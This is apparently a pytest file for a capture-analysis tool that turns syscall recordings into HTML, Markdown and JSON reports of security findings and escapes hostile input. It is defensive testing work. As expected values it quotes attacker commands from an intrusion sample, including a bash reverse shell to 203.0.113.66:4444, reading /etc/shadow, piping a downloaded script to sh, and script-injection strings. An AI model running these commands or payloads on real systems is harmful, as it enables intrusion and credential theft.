"""Reports: the document for the intrusion sample and a shared capture (commands, connections, HTTP,
findings with their rules), the JSON schema, escaping of hostile captures in HTML and Markdown, the
report and export commands, and the HTML page in headless Chromium."""
from __future__ import annotations

import codecs
import html.parser
import json
import shutil
import subprocess
import sys
import threading
from functools import cache
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import click
import pandas as pd
import pytest
from click.testing import CliRunner

from scapinspect.cli_report import Progress, export_cmd, report_cmd
from scapinspect.report import build_report, render, render_html, render_json, render_markdown, validate
from scapinspect.report.export import escape_bytes
from scapinspect.report.json_report import REPORT_SCHEMA
from scapinspect.report.markdown import sparkline
from scapinspect.report.model import ReportOptions, parse_time
from scapinspect.report.svg import timeline_svg
from scapinspect.report.text import cell, md_text, visible

sys.path.insert(0, str(Path(__file__).resolve().parent))
from hostile import HOSTILE_PATH, IMG, MARKDOWN, SCRIPT, hostile_capture  # noqa: E402

SAMPLES = Path(__file__).resolve().parents[1] / "sample_captures"
INTRUSION = SAMPLES / "intrusion.scap"
CAPTURES = Path(__file__).resolve().parents[2] / "shared" / "captures"


@cache
def intrusion_doc() -> dict:
    return build_report([INTRUSION])


def section(cap: dict, sid: str) -> dict:
    return next(s for s in cap["sections"] if s["id"] == sid)


def column(sec: dict, name: str) -> list:
    j = sec["columns"].index(name)
    return [r[j] for r in sec["rows"]]


def texts(sec: dict) -> str:
    return "\n".join(" ".join(str(v) for v in r) for r in sec["rows"])


# -- the document ----------------------------------------------------------------------------------------
def test_intrusion_report_commands_connections_http():
    cap = intrusion_doc()["captures"][0]
    assert cap["status"] == "ok" and cap["info"]["hostname"] == "web-02"
    commands = column(section(cap, "spy_users"), "command")
    for cmd in ("bash -c bash -i >& /dev/tcp/203.0.113.66/4444 0>&1", "bash -i", "id", "cat /etc/shadow",
                "curl -s http://203.0.113.66/x.sh", "sh", "curl -s -o upd http://203.0.113.66/upd",
                "chmod +x upd", "cd /tmp/.x"):
        assert cmd in commands
    conns = texts(section(cap, "connections"))
    for peer in ("203.0.113.66:4444", "203.0.113.66:3333", "203.0.113.66:80", "203.0.113.66:51880->10.0.1.30:8080"):
        assert peer in conns
    http = section(cap, "http")
    if http["status"] == "ok":
        urls = column(http, "url")
        assert "/x.sh" in urls and "/upd" in urls and any(u.startswith("/ping?host=") for u in urls)


def test_intrusion_findings_name_their_rules():
    cap = intrusion_doc()["captures"][0]
    found = {(f["rule"], f["process"]): f for f in cap["findings"]}
    assert "10.0.1.30:43923->203.0.113.66:4444" in found[("shell-on-network-socket", "bash")]["detail"]
    assert "/etc/shadow" in found[("read-sensitive-file", "cat")]["detail"]
    assert "/etc/cron.d/sysupd" in found[("write-below-system-dir", "bash")]["detail"]
    piped = found[("download-piped-to-shell", "sh")]["detail"]
    assert "curl -s http://203.0.113.66/x.sh" in piped and "| sh" in piped
    shells = [f for f in cap["findings"] if f["rule"] == "shell-from-network-service"]
    assert {f["pid"] for f in shells} == {31002, 31007} and all("python3 (pid 1400)" in f["detail"] for f in shells)
    ports = {f["detail"].split("connected to ")[1].split(" ")[0] for f in cap["findings"]
             if f["rule"] == "unusual-port-connection"}
    assert ports == {"203.0.113.66:4444", "203.0.113.66:3333"}
    rules = {r["id"] for r in intrusion_doc()["rules"]}
    assert {f["rule"] for f in cap["findings"]} <= rules and "failed-login" in rules


def test_no_findings_on_an_ordinary_session():
    doc = build_report([SAMPLES / "shell_session.scap"])
    assert doc["captures"][0]["findings"] == []        # sudo reading /etc/shadow is its job


def test_json_validates_against_the_schema():
    doc = json.loads(render_json(intrusion_doc()))
    assert validate(doc) == []
    try:
        import jsonschema
    except ImportError:
        return
    jsonschema.validate(doc, REPORT_SCHEMA)


def test_the_validator_catches_what_breaks_the_schema():
    doc = json.loads(render_json(intrusion_doc()))
    doc["captures"][0]["findings"][0]["severity"] = "urgent"
    doc["captures"][0]["sections"][0]["rows"][0][0] = {"nested": 1}
    del doc["captures"][0]["info"]["hostname"]
    doc["extra"] = 1
    errors = validate(doc)
    assert any("urgent" in e for e in errors) and any("missing 'hostname'" in e for e in errors)
    assert any("rows[0][0]" in e for e in errors) and any("'extra'" in e for e in errors)


def test_filter_and_time_range_apply_to_the_whole_report():
    info = intrusion_doc()["captures"][0]["info"]
    doc = build_report([INTRUSION], ReportOptions(filter="proc.name=curl"))
    cap = doc["captures"][0]
    assert doc["scope"]["filter"] == "proc.name=curl" and validate(doc) == []
    assert 0 < cap["info"]["events_selected"] < info["events_selected"]
    assert {f["rule"] for f in cap["findings"]} <= {"write-below-system-dir", "unusual-port-connection"}
    late = build_report([INTRUSION], ReportOptions(start="+15s", end="-5s"))["captures"][0]
    t0 = pd.Timestamp(info["first_event"]) + pd.Timedelta("15s")
    assert pd.Timestamp(late["info"]["first_event"]) >= t0
    assert pd.Timestamp(late["info"]["last_event"]) < pd.Timestamp(info["last_event"]) - pd.Timedelta("5s")
    commands = column(section(late, "spy_users"), "command")
    assert "cat /etc/shadow" not in commands and "curl -s http://203.0.113.66/x.sh" in commands


def test_a_capture_that_cannot_be_read_fails_alone(tmp_path):
    bad = tmp_path / "bad.scap"
    bad.write_bytes(b"not a capture at all")
    doc = build_report([bad, INTRUSION])
    assert [c["status"] for c in doc["captures"]] == ["failed", "ok"]
    assert "bad.scap" in doc["captures"][0]["error"] and validate(doc) == []
    assert "could not be read" in render_html(doc) and "could not be read" in render_markdown(doc)


def test_sections_degrade_when_an_analysis_is_missing(monkeypatch):
    from scapinspect.capture import Capture

    def missing(self, *args, **kwargs):
        raise ImportError("No module named 'scapinspect.analyzers.gone'")
    for name in ("connections", "http", "summary", "timeline"):
        monkeypatch.setattr(Capture, name, missing)
    doc = build_report([INTRUSION])
    cap = doc["captures"][0]
    assert validate(doc) == [] and cap["status"] == "ok"
    assert section(cap, "http")["status"] == "not available"
    conns = section(cap, "connections")       # falls back to the csysdig Connections view
    assert conns["status"] == "ok" and "csysdig" in conns["note"] and "203.0.113.66" in texts(conns)
    assert cap["timeline"]["series"] and "counted here" in cap["timeline"]["note"]
    assert all(t["category"] == "capture" for t in cap["tiles"]) and len(cap["findings"]) == 8
    assert "Not available." in render_html(doc) and "Not available." in render_markdown(doc)


@pytest.mark.skipif(not (CAPTURES / "curl_google.scap").is_file(), reason="shared captures not found")
def test_shared_capture_report():
    doc = build_report([CAPTURES / "curl_google.scap"])
    cap = doc["captures"][0]
    assert validate(doc) == [] and cap["status"] == "ok"
    assert column(section(cap, "spy_users"), "command") == ["curl -6 http://www.google.com"]
    conns = texts(section(cap, "connections"))
    assert "2607:f8b0:4004:802::2004:80" in conns and "2001:4860:4860::8888:53" in conns
    http = section(cap, "http")
    if http["status"] == "ok":
        assert [(r[column_index(http, "method")], r[column_index(http, "host")], r[column_index(http, "status")])
                for r in http["rows"]] == [("GET", "www.google.com", 200)]
    page = render_html(doc)
    assert "curl -6 http://www.google.com" in page and "www.google.com" in page


def column_index(sec: dict, name: str) -> int:
    return sec["columns"].index(name)


# -- hostile captures --------------------------------------------------------------------------------------
@pytest.fixture(scope="module")
def hostile(tmp_path_factory) -> dict:
    path = hostile_capture(tmp_path_factory.mktemp("hostile") / "hostile.scap")
    doc = build_report([path])
    return {"path": path, "doc": doc, "html": render_html(doc), "md": render_markdown(doc), "json": render_json(doc)}


ALLOWED_HTML = {"html", "head", "meta", "link", "title", "style", "body", "header", "main", "nav", "section", "h1",
                "h2", "h3", "p", "dl", "dt", "dd", "div", "ul", "ol", "li", "table", "thead", "tbody", "tr", "th",
                "td", "span", "a", "code", "strong", "svg", "rect", "text", "line", "polyline"}


class Tags(html.parser.HTMLParser):
    """Every tag, attribute and text node of a page."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, attrs))

    def handle_data(self, data):
        self.text.append(data)


def parse(page: str) -> Tags:
    t = Tags()
    t.feed(page)
    t.close()
    return t


def test_hostile_values_are_only_text_in_html(hostile):
    page = hostile["html"]
    t = parse(page)
    assert {tag for tag, _ in t.tags} <= ALLOWED_HTML
    for tag, attrs in t.tags:
        for name, value in attrs:
            assert not name.startswith("on"), (tag, name)
            if name == "href":
                assert value.startswith("#") or (tag == "link" and value == "data:,")
    text = "".join(t.text)
    for needle in (SCRIPT, IMG, MARKDOWN, "\\x1b[31mRED", HOSTILE_PATH, "Failed password for " + SCRIPT):
        assert needle in text
    assert "\x1b" not in page and "\x07" not in page and "<script" not in page.lower()


def test_hostile_values_are_only_text_in_markdown(hostile):
    MarkdownIt = pytest.importorskip("markdown_it").MarkdownIt  # noqa: N806
    md = hostile["md"]
    assert "\x1b" not in md and "\x07" not in md
    rendered = MarkdownIt("commonmark").enable(["table", "strikethrough"]).render(md)
    t = parse(rendered)
    tags = {tag for tag, _ in t.tags}
    assert tags <= {"h1", "h2", "h3", "p", "em", "strong", "ul", "li", "table", "thead", "tbody", "tr", "th", "td",
                    "pre", "code"}, tags
    text = "".join(t.text)
    for needle in (SCRIPT, IMG, "**bold** _it_ [click](javascript:alert(3)) ![i](http://evil.example/x.png) | pipe |",
                   "\\x1b[31mRED", HOSTILE_PATH):
        assert needle in text
    # code spans only in the sparkline block: nothing from the capture became code
    assert "`code`" in text


def test_hostile_values_are_kept_in_json(hostile):
    doc = json.loads(hostile["json"])
    assert validate(doc) == []
    cap = doc["captures"][0]
    assert cap["info"]["hostname"] == f"{SCRIPT}**host**"
    details = " ".join(f["detail"] for f in cap["findings"])
    assert "\x1b[31mRED" in details and SCRIPT in details and HOSTILE_PATH in details
    rules = {f["rule"] for f in cap["findings"]}
    assert rules >= {"shell-from-network-service", "write-below-system-dir", "read-sensitive-file",
                     "unusual-port-connection", "failed-login"}


def test_markdown_escaping_renders_exact_text():
    MarkdownIt = pytest.importorskip("markdown_it").MarkdownIt  # noqa: N806
    md = MarkdownIt("commonmark").enable(["table", "strikethrough"])
    for s in ["1. item", "# not a heading", "- no list", "a | b", "<b>x</b> &amp; &lt;", "[l](http://x) ![i](y)",
              "*a* _b_ `c` ~~d~~", "10.0.1.30:8080", "back\\slash", "www.example.com http://x :smile: #12 @bob $x$"]:
        out = md.render("| c |\n|---|\n| " + md_text(s) + " |\n")
        t = parse(out)
        assert "".join(t.text).split("c", 1)[1].strip() == s
        assert {tag for tag, _ in t.tags} <= {"table", "thead", "tbody", "tr", "th", "td"}


# -- pieces ----------------------------------------------------------------------------------------------
def test_cells_and_text_helpers():
    assert cell(pd.Timestamp(1_710_385_964_731_000_397, unit="ns", tz="UTC")) == "2024-03-14T03:12:44.731000397Z"
    assert cell(pd.Timedelta("1.5s")) == 1.5 and cell(pd.NA) is None and cell(float("nan")) is None
    assert cell(b"GET /\r\n\x00") == "GET /..." and cell(True) is True
    assert visible("a\x1b[31mb\udcff") == "a\\x1b[31mb\\xff"


def test_parse_time():
    assert parse_time("+5s").relative == "+" and parse_time("+5s").ns == 5_000_000_000
    assert parse_time("-250ms").resolve(0, 1_000_000_000) == 750_000_000
    assert parse_time("2024-03-14T03:12:50Z").ns == pd.Timestamp("2024-03-14T03:12:50Z").value
    assert parse_time("2024-03-14 03:12:50").ns == pd.Timestamp("2024-03-14T03:12:50Z").value
    assert parse_time("1710385970000000000").ns == 1710385970000000000
    with pytest.raises(ValueError):
        parse_time("yesterday-ish")


def test_svg_escapes_and_handles_nothing():
    empty = timeline_svg(None)
    assert empty.startswith("<svg") and "no events" in empty
    svg = timeline_svg({"series": [{"metric": SCRIPT, "points": [["2024-03-14T03:12:44.000000000Z", 3],
                                                                  ["2024-03-14T03:12:45.000000000Z", 0]]}]})
    assert "<script" not in svg and "&lt;script&gt;" in svg and "<rect" in svg


def test_sparkline():
    assert sparkline([0, 1, 2, 4]) == " ▂▄█" and sparkline([]) == "" and sparkline([0, 0]) == "  "


def test_render_by_suffix():
    doc = intrusion_doc()
    assert render(doc, ".HTML").startswith("<!DOCTYPE html>") and render(doc, ".md").startswith("# ")
    assert json.loads(render(doc, ".json"))["schema"] == "scapinspect.report/1"
    with pytest.raises(ValueError):
        render(doc, ".pdf")


@pytest.mark.parametrize("raw", [b"", b"plain", b"\\x41", bytes(range(256)), b"a\\\\b\x00"])
def test_escape_bytes_round_trip(raw):
    assert codecs.escape_decode(escape_bytes(raw).encode("ascii"))[0] == raw


# -- the commands ----------------------------------------------------------------------------------------
def cli() -> click.Group:
    @click.group()
    def group() -> None:
        pass
    group.add_command(report_cmd, "report")
    group.add_command(export_cmd, "export")
    return group


def run(*args) -> object:
    return CliRunner().invoke(cli(), [str(a) for a in args], catch_exceptions=False)


def test_report_command_writes_each_format(tmp_path):
    for ext in ("html", "md", "json"):
        out = tmp_path / f"r.{ext}"
        res = run("report", INTRUSION, "-o", out)
        assert res.exit_code == 0, res.output
        body = out.read_text(encoding="utf-8")
        assert "/etc/cron.d/sysupd" in body and "shell-on-network-socket" in body
    assert validate(json.loads((tmp_path / "r.json").read_text())) == []


def test_report_command_failed_input_others_still_reported(tmp_path):
    bad = tmp_path / "broken.scap"
    bad.write_bytes(b"\x0a\x0d\x0d\x0a" + b"\x00" * 7)
    out = tmp_path / "all.html"
    res = run("report", bad, INTRUSION, tmp_path / "missing.scap", "-o", out)
    assert res.exit_code == 2
    assert "broken.scap" in res.output and "missing.scap" in res.output
    page = out.read_text()
    assert page.count("could not be read") == 2 and "cat /etc/shadow" in page


def test_report_command_one_file_per_capture(tmp_path):
    res = run("report", INTRUSION, SAMPLES / "curl_http.scap", "-o", f"{tmp_path}/out/", "--format", "md")
    assert res.exit_code == 0, res.output
    assert sorted(p.name for p in (tmp_path / "out").iterdir()) == ["curl_http.md", "intrusion.md"]
    res = run("report", INTRUSION, SAMPLES / "curl_http.scap", "-o", tmp_path / "r.json", "--split")
    assert res.exit_code == 0
    assert (tmp_path / "r-intrusion.json").is_file() and (tmp_path / "r-curl_http.json").is_file()


def test_report_command_filter_range_and_errors(tmp_path):
    out = tmp_path / "r.json"
    res = run("report", INTRUSION, "-o", out, "--filter", "proc.name=curl", "--start", "+10s")
    assert res.exit_code == 0, res.output
    doc = json.loads(out.read_text())
    assert doc["scope"] == {"filter": "proc.name=curl", "start": "+10s", "end": None}
    assert run("report", INTRUSION, "-o", tmp_path / "x.html", "--filter", "proc.name=").exit_code == 2
    assert not (tmp_path / "x.html").exists()
    res = run("report", INTRUSION, "-o", tmp_path / "x.html", "--start", "soon")
    assert res.exit_code == 2 and "not a time" in res.output
    res = run("report", INTRUSION, "-o", tmp_path / "x.pdf")
    assert res.exit_code == 2 and ".html, .md or .json" in res.output


def test_progress_bar_only_when_asked_or_on_a_tty(tmp_path):
    quiet = run("report", INTRUSION, "-o", tmp_path / "a.html")
    assert "[#" not in quiet.output
    loud = run("report", INTRUSION, "-o", tmp_path / "b.html", "--progress")
    assert "[#" in loud.output and "intrusion.scap" in loud.output
    bar = Progress(3, enabled=False)
    for _ in range(5):
        bar.step("x")
    assert bar.done == 3


def test_export_formats(tmp_path):
    res = run("export", INTRUSION, "--what", "spy-users", "-o", tmp_path / "s.csv")
    assert res.exit_code == 0, res.output
    frame = pd.read_csv(tmp_path / "s.csv")
    assert "cat /etc/shadow" in set(frame["command"]) and frame["time"][0].endswith("Z")
    res = run("export", INTRUSION, "--what", "io", "-o", tmp_path / "io.jsonl")
    rows = [json.loads(line) for line in (tmp_path / "io.jsonl").read_text().splitlines()]
    shadow = next(r for r in rows if r["fd.name"] == "/etc/shadow")
    assert codecs.escape_decode(shadow["data"].encode())[0].startswith(b"root:$y$")
    res = run("export", INTRUSION, "--what", "procs", "--format", "jsonl", "-o", "-")
    assert res.exit_code == 0 and json.loads(res.output.splitlines()[0])["PID"] == 1400
    res = run("export", INTRUSION, "--what", "nope", "-o", tmp_path / "x.csv")
    assert res.exit_code == 2 and "procs" in res.output
    res = run("export", INTRUSION, "--what", "events", "-o", tmp_path / "x.txt")
    assert res.exit_code == 2 and "--format" in res.output


def test_export_parquet(tmp_path):
    pytest.importorskip("pyarrow")
    out = tmp_path / "ev.parquet"
    res = run("export", INTRUSION, "--what", "events", "-o", out, "--filter", "evt.type=execve")
    assert res.exit_code == 0, res.output
    frame = pd.read_parquet(out)
    assert str(frame["evt.time"].dtype) == "datetime64[ns, UTC]" and set(frame["evt.type"]) == {"execve"}
    assert isinstance(frame["proc.name"].dtype, pd.CategoricalDtype) and str(frame["proc.pid"].dtype) == "Int64"
    io = tmp_path / "io.parquet"
    assert run("export", INTRUSION, "--what", "io", "-o", io).exit_code == 0
    assert pd.read_parquet(io)["data"].map(type).eq(bytes).all()


def test_export_parquet_without_pyarrow(tmp_path, monkeypatch):
    monkeypatch.setitem(sys.modules, "pyarrow", None)
    res = run("export", INTRUSION, "--what", "events", "-o", tmp_path / "ev.parquet")
    assert res.exit_code == 2 and "pip install 'scapinspect[parquet]'" in res.output


# -- in a browser ----------------------------------------------------------------------------------------
CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")


class _Log(BaseHTTPRequestHandler):
    """Serves the report and answers (and records) every other request the browser makes: through the
    proxy and host-resolver rules below, a request for anything anywhere ends up here."""
    page = b""
    seen: list[str] = []

    def do_GET(self):  # noqa: N802
        self.seen.append(self.path)
        body = self.page if self.path.endswith("/report.html") else b""
        self.send_response(200 if body else 404)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args):
        pass


@pytest.mark.skipif(CHROMIUM is None, reason="chromium is not installed")
def test_html_report_in_headless_chromium(hostile, tmp_path):
    doc = build_report([INTRUSION, hostile["path"]])
    _Log.page = render_html(doc).encode("utf-8")
    _Log.seen = []
    server = ThreadingHTTPServer(("127.0.0.1", 0), _Log)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    port = server.server_address[1]
    shot = tmp_path / "report.png"
    # the browser's own background traffic (time checks, component updates) is switched off, so that
    # whatever reaches the logging server came from the page
    common = [CHROMIUM, "--headless", "--no-sandbox", "--disable-gpu", "--hide-scrollbars", "--no-first-run",
              "--disable-background-networking", "--disable-component-update", "--disable-sync",
              "--disable-default-apps", "--disable-features=NetworkTimeServiceQuerying,OptimizationHints",
              f"--proxy-server=http://127.0.0.1:{port}", "--proxy-bypass-list=<-loopback>",
              f"--host-resolver-rules=MAP * 127.0.0.1:{port}", "--enable-logging=stderr", "--v=0",
              f"--user-data-dir={tmp_path / 'profile'}"]
    url = f"http://127.0.0.1:{port}/report.html"
    try:
        dom = subprocess.run([*common, "--dump-dom", url], capture_output=True, text=True, timeout=120)
        pic = subprocess.run([*common, "--window-size=1280,2400", f"--screenshot={shot}", url],
                             capture_output=True, text=True, timeout=120)
    finally:
        server.shutdown()
    assert dom.returncode == 0, dom.stderr[-2000:]
    assert pic.returncode == 0 and shot.stat().st_size > 20_000
    assert {p.split(f":{port}", 1)[-1] for p in _Log.seen} == {"/report.html"}, _Log.seen   # nothing else
    console = [line for line in dom.stderr.splitlines() + pic.stderr.splitlines()
               if "CONSOLE" in line or "Refused to" in line or "Content Security Policy" in line]
    assert console == []
    t = parse(dom.stdout)
    assert {tag for tag, _ in t.tags} <= ALLOWED_HTML
    text = "".join(t.text)
    assert SCRIPT in text and "cat /etc/shadow" in text and "Notable findings" in text
